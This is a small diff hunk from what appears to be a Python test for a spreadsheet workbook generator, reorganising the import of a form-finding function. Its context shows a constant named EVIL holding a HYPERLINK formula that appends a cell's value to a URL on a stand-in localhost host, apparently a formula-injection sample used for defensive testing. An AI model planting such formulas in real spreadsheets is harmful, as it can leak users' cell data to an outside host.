@@ -10,7 +10,8 @@ from data_entry.blank.write import workbook_bytes
 from data_entry.questions import AnnexKind, ExtraSheet, Option, Questions
 from data_entry.sample import sample
 from data_entry.subjects.catalogue import load
-from generator.forms.form import find_form, load_form
+from generator.forms.finding import find_form
+from generator.forms.form import load_form
 
 EVIL = '=HYPERLINK("http://127.0.0.1/"&B6,"x")'
 
